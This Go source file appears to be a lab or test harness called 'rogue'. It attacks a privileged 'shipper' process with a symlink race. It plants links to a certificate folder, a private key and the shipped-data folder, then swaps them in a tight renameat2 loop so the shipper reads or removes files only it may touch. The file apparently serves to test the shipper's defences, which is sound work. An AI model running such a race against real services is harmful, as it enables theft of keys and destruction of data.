// Command rogue attacks the shipper as the recorder's user. It records whole episodes and
// exchanges each episode's folder, a subfolder and a file, in a loop, for links to files
// that only the shipper may read or remove.
//
//	rogue EPISODES COUNT COMMIT
//
// It keeps open descriptors, so the attack goes on in a folder that the shipper has moved.
// At the end it prints the number of exchanges.
package main

import (
	"crypto/rand"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"

	"cis490/internal/ident"
)

// Each episode is attacked until afterwards the shipper has taken it, or for atMost.
const (
	afterwards = 30 * time.Millisecond
	atMost     = time.Second
	atOnce     = 4  // episodes
	niceness   = 17 // the shipper has 10
)

func main() {
	if err := attack(); err != nil {
		fmt.Fprintln(os.Stderr, "rogue:", err) // the caller fails without a number
	}
}

func attack() error {
	if len(os.Args) != 4 {
		return errors.New("usage: rogue EPISODES COUNT COMMIT")
	}
	count, err := strconv.Atoi(os.Args[2])
	if err != nil {
		return err
	}
	unix.Umask(0o007)
	// The shipper runs at a lower priority than recordings, and must still get time.
	if err := unix.Setpriority(unix.PRIO_PROCESS, 0, niceness); err != nil {
		return err
	}
	top, err := unix.Open(os.Args[1], unix.O_PATH|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	var all sync.WaitGroup
	var exchanges atomic.Int64
	places := make(chan struct{}, atOnce)
	failed := make(chan error, count)
	for range count {
		places <- struct{}{}
		all.Go(func() {
			defer func() { <-places }()
			n, err := attackEpisode(top, os.Args[1], os.Args[3])
			exchanges.Add(n)
			if err != nil {
				failed <- err
			}
		})
	}
	all.Wait()
	close(failed)
	if err := <-failed; err != nil {
		return err
	}
	fmt.Println(exchanges.Load())
	return nil
}

// attackEpisode records an episode and attacks it until the shipper has taken it.
func attackEpisode(top int, episodes, commit string) (exchanges int64, err error) {
	id, err := ident.NewEpisodeID(time.Now(), rand.Reader)
	if err != nil {
		return 0, err
	}
	dir := filepath.Join(episodes, string(id))
	meta := fmt.Sprintf(`{"schema_version":1,"episode":%q,"host":"lab-01","profile":"rogue",
"code_version":{"version":"1","commit":%q},"verdict":"accepted"}`, id, commit)
	err = errors.Join(os.Mkdir(dir, 0o770), os.Mkdir(dir+"/sub", 0o770))
	for _, f := range []struct{ name, content string }{{"a", "rows"}, {"sub/a", "rows"}, {"meta.json", meta}} {
		err = errors.Join(err, os.WriteFile(filepath.Join(dir, f.name), []byte(f.content), 0o660))
	}
	data := filepath.Dir(episodes)
	for ending, target := range map[string]string{
		"certs": "/etc/cis490/certs", "key": "/etc/cis490/certs/lab-host.pem",
		"shipped": data + "/shipped",
	} {
		err = errors.Join(err, os.Symlink(target, filepath.Join(episodes, "."+ending+"-"+string(id))))
	}
	if err != nil {
		return 0, err
	}
	in, err := unix.Open(dir, unix.O_PATH|unix.O_DIRECTORY, 0)
	if err != nil {
		return 0, err
	}
	defer func() { _ = unix.Close(in) }()
	link := func(ending string) string { return "." + ending + "-" + string(id) }
	stop := make(chan struct{})
	var swapping sync.WaitGroup
	var n atomic.Int64
	swap := func(dir int, a, b string) {
		swapping.Go(func() {
			for {
				select {
				case <-stop:
					return
				default:
					if unix.Renameat2(dir, a, top, b, unix.RENAME_EXCHANGE) == nil {
						n.Add(1)
					}
				}
			}
		})
	}
	swap(in, "sub", link("shipped"))
	swap(in, "a", link("key"))
	// Relative to the descriptor, because the names are being exchanged already.
	marker, err := unix.Openat(in, "done.marker", unix.O_CREAT|unix.O_WRONLY, 0o660)
	if err == nil {
		err = unix.Close(marker)
	}
	swap(top, string(id), link("certs"))
	for began := time.Now(); time.Since(began) < atMost; time.Sleep(time.Millisecond) {
		if !isFolder(top, string(id)) && !isFolder(top, link("certs")) {
			break
		}
	}
	time.Sleep(afterwards)
	close(stop)
	swapping.Wait()
	return n.Load(), err
}

// isFolder reports whether the name in the folder top is a folder.
func isFolder(top int, name string) bool {
	var st unix.Stat_t
	return unix.Fstatat(top, name, &st, unix.AT_SYMLINK_NOFOLLOW) == nil && st.Mode&unix.S_IFMT == unix.S_IFDIR
}
